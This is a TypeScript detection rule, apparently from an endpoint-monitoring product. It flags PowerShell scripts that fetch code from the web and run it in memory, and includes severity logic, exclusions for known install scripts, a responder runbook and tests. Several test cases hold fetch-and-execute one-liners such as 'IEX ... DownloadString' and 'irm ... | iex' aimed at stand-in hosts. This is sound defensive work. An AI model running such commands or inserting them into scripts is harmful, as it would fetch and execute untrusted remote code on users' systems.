import { hostsNamed, runsWhatItFetches } from '../../src/detect/reading/powershell-fetch.ts'
import { rule, table } from '../../src/detect/rule.ts'
import { INSTALL_SCRIPT_HOSTS } from '../data/powershell-words.ts'

export default rule({
  id: 'windows.powershell-runs-what-it-fetches',
  title: 'PowerShell runs code that it fetches',
  severity: 'medium',
  on: table('powershell_events'),
  attack: ['T1059.001', 'T1105'],
  means:
    'A script fetched code from the web and ran it without a file, so that no antivirus sees one on the disk. It is how attackers bring their next piece, and how some projects are installed.',
  check: 'SELECT datetime, script_path, script_text FROM powershell_events ORDER BY time DESC LIMIT 20;',
  benign:
    'Install scripts: those of well-known projects are left out. Scripts of administrators that fetch from your own hosts: name them in the exceptions. An address of digits is told as high.',
  runbook:
    'Fetch nothing from the address on your own machine; look it up. What ran after it on the host (processes, new tasks, new services)? Unknown: isolate the host, and look for the same address in the whole fleet.',
  references: [
    'https://attack.mitre.org/techniques/T1059/001/',
    'https://attack.mitre.org/techniques/T1105/',
  ],
  detect: ({ columns }) =>
    columns.script_text !== '' && runsWhatItFetches(columns.script_text.slice(0, SCRIPT_MAX)),
  // Functions of modules and scripts may do both at different times; what attackers fetch so is short.
  exclude: ({ columns }) => {
    const hosts = hostsNamed(columns.script_text.slice(0, SCRIPT_MAX))
    return (
      (hosts.length > 0 && hosts.every(host => INSTALL_SCRIPT_HOSTS.hosts.has(host))) ||
      /^[a-z]:\\(?:windows\\system32|program files|program files \(x86\))\\/i.test(columns.script_path)
    )
  },
  dynamicSeverity: ({ columns }) =>
    hostsNamed(columns.script_text.slice(0, SCRIPT_MAX)).some(host =>
      /^(?:\d{1,3}(?:\.\d{1,3}){3}|\[.*)$/.test(host),
    )
      ? 'high'
      : 'medium',
  alertTitle: ({ host, columns }) =>
    `PowerShell on ${host} runs what it fetches from ${hostsNamed(columns.script_text.slice(0, SCRIPT_MAX)).join(', ') || 'somewhere'}`,
  dedup: ({ hostId, columns }) =>
    `${hostId} ${hostsNamed(columns.script_text.slice(0, SCRIPT_MAX)).join(' ')}`,
  context: ({ columns }) => ({
    hosts: hostsNamed(columns.script_text.slice(0, SCRIPT_MAX)),
    script: columns.script_text.slice(0, 10_000),
    path: columns.script_path,
  }),
  tests: [
    {
      name: 'from an address',
      match: true,
      columns: { script_text: "IEX (New-Object Net.WebClient).DownloadString('http://192.0.2.1/a.ps1')" },
      title: 'PowerShell on test-host runs what it fetches from 192.0.2.1',
      dedup: 'test-host-id 192.0.2.1',
      severity: 'high',
    },
    {
      name: 'from a name',
      match: true,
      columns: { script_text: 'irm https://example.com/a | iex' },
      severity: 'medium',
    },
    {
      name: 'from nowhere that is told',
      match: true,
      columns: { script_text: 'iex (iwr $u)' },
      title: 'PowerShell on test-host runs what it fetches from somewhere',
    },
    {
      name: 'an install script beside another address',
      match: true,
      columns: {
        script_text:
          "iex ((New-Object Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1')); iex (iwr http://192.0.2.1/b)",
      },
    },
    {
      name: 'Chocolatey',
      match: false,
      columns: {
        script_text:
          "iex ((New-Object System.Net.WebClient).DownloadString('https://community.chocolatey.org/install.ps1'))",
      },
    },
    {
      name: 'a product',
      match: false,
      columns: { script_text: 'iex (iwr $u)', script_path: 'C:\\Program Files\\Example\\update.ps1' },
    },
    {
      name: 'a file',
      match: false,
      columns: { script_text: 'iwr https://example.com/a.zip -OutFile a.zip' },
    },
    { name: 'no script', match: false, columns: { script_path: 'C:\\a.ps1' } },
    {
      name: 'a row of a removal',
      match: false,
      action: 'removed',
      columns: { script_text: 'irm https://example.com/a | iex' },
    },
  ],
})

/** A line of a shell or a small script: a module is longer. */
const SCRIPT_MAX = 65_536
